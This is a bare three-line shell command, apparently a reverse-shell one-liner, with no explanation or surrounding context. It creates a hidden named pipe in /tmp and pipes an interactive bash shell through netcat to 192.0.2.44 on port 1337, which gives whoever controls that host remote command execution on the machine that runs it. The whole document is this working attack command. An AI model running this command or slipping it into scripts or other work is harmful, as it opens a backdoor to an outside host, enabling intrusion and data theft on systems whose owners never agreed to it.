rm -f /tmp/.p
mkfifo /tmp/.p
cat /tmp/.p | /bin/bash -i 2>&1 | nc 192.0.2.44 1337 >/tmp/.p
